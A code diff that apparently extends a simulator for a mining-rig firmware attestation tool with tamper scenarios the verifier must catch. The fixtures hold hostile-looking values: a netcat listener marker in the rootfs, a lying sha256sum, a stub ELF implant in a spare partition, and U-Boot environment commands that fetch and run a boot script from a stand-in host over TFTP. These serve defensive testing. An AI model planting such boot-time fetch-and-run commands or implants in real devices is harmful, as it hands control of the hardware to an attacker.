@@ -40,10 +40,24 @@ SERIAL_SCENARIOS: dict[str, tuple[str, str]] = {
     "serial-drop": ("TRUSTED", "UNKNOWN"),  # the console goes dead mid-command
 }
 
+#: Tampering that only a station measuring the flash itself can see, not part of `mixed` (whose
+#: table DESIGN.md fixes): name -> the verdict a full verification must give (docs/scenarios.md).
+TAMPER_SCENARIOS: dict[str, str] = {
+    "lying-sha256sum": "UNTRUSTED",  # modified rootfs; its sha256sum prints the genuine digests
+    "unlisted-partition": "UNTRUSTED",  # an ELF in a partition no signed release lists
+    "env-script": "UNTRUSTED",  # the saved U-Boot environment fetches and runs a script at boot
+}
+
 ALLOWED_POOL = "stratum+tcp://pool.example-mining.net:3333"
 HIJACK_POOL = "stratum+tcp://198.51.100.66:4444"
 #: The Antbleed check-in host, as it sat in Bitmain's bmminer binaries in 2017.
 ANTBLEED_BYTES = b'auth.minerlink.com\x00setup_send_mac_socket\x00{"ctrl_board":"%s","id":"%d","hashboard":[%s]}\x00'
+
+
+#: A small ARM ELF executable (header and a body of code-like bytes): what an implant planted in a
+#: spare partition looks like to anything that reads the flash.
+IMPLANT_ELF = (b"\x7fELF\x01\x01\x01\x00" + bytes(8) + b"\x02\x00\x28\x00\x01\x00\x00\x00"
+               + b"\x54\x80\x00\x00\x34\x00\x00\x00" + bytes(4096 - 32)).ljust(32 * 1024, b"\xff")
 
 
 @dataclass(frozen=True)
@@ -122,8 +136,9 @@ def make_rig(index: int, scenario: str, host: str, *, seed: str = "rigattest-dem
 
     ``model_name`` pins the model (a clone must be the same model as the unit it copies).
     """
-    if scenario not in SCENARIOS and scenario not in SERIAL_SCENARIOS:
-        raise ValueError(f"unknown scenario {scenario!r}; known: {', '.join([*SCENARIOS, *SERIAL_SCENARIOS])}")
+    known = [*SCENARIOS, *SERIAL_SCENARIOS, *TAMPER_SCENARIOS]
+    if scenario not in known:
+        raise ValueError(f"unknown scenario {scenario!r}; known: {', '.join(known)}")
     model = MODEL_BY_NAME[model_name] if model_name else model_for(index, scenario)
     rnd = random.Random(f"{seed}/{index}")
     prefix = {"antminer": "JYZZ", "whatsminer": "HTM3"}[model.family]
@@ -151,6 +166,7 @@ def make_rig(index: int, scenario: str, host: str, *, seed: str = "rigattest-dem
         pools=[Pool(ALLOWED_POOL, f"intake.{index + 1}")],
         config_partition=_blob(f"config/{serial}", 16 * 1024),
         hostname=model.hostname,
+        host_key_seed=f"{seed}/{index}",
     )
     rig.as_built = AsBuilt(rig.model, rig.serial, rig.mac, rig.control_board_serial, rig.psu_serial,
                            tuple((hb.slot, hb.serial, hb.chips) for hb in rig.hashboards))
@@ -166,10 +182,19 @@ def without_binary_indicators(rig: Rig) -> None:
 
 def apply_scenario(rig: Rig, scenario: str, rnd: random.Random) -> None:
     """Change a genuine rig so it shows what the scenario says (identity kept unless stated)."""
-    if scenario == "modified-firmware":
-        rootfs = bytearray(rig.images["rootfs"])
+    if scenario in ("modified-firmware", "lying-sha256sum"):
+        genuine = rig.images["rootfs"]
+        rootfs = bytearray(genuine)
         rootfs[4096:4096 + 16] = b"#!/bin/sh\nnc -l\n"  # a tiny implant in the rootfs
         rig.images["rootfs"] = bytes(rootfs)
+        if scenario == "lying-sha256sum":  # ... and a busybox whose sha256sum hashes a kept copy
+            rig.self_report = {"rootfs": genuine}
+    elif scenario == "unlisted-partition":
+        rig.extra_partitions["upgrade-rootfs"] = IMPLANT_ELF
+    elif scenario == "env-script":
+        rig.uboot_env["fetch"] = f"dhcp; tftpboot ${{loadaddr}} {HIJACK_POOL.split('//')[1].split(':')[0]}:boot.scr; " \
+                                 "source ${loadaddr}"
+        rig.uboot_env["bootcmd"] = "run fetch; nand read ${loadaddr} 0x0 0x10000; bootm ${loadaddr}"
     elif scenario == "revoked-firmware":
         old = release(rig.model, REVOKED_VERSION)
         rig.images = dict(old.images)
